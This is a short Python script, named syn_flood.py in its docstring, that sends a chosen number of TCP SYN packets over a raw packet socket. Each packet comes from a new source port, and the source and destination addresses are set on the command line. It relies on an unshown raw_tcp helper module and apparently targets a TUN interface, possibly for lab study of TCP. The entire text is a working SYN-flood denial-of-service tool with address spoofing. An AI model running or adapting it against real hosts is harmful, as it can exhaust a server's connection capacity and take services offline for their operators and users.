"""Sends COUNT SYNs over a TUN, each from another port: syn_flood.py INTERFACE SOURCE DESTINATION PORT COUNT."""

import socket
import sys

from raw_tcp import packet

interface, source, destination, port, count = *sys.argv[1:4], *map(int, sys.argv[4:6])
source, destination = socket.inet_aton(source), socket.inet_aton(destination)

raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
for own in range(40000, 40000 + count):
    raw.sendto(packet(source, destination, (own, port), 1000 * own, 2), (interface, 0x0800))
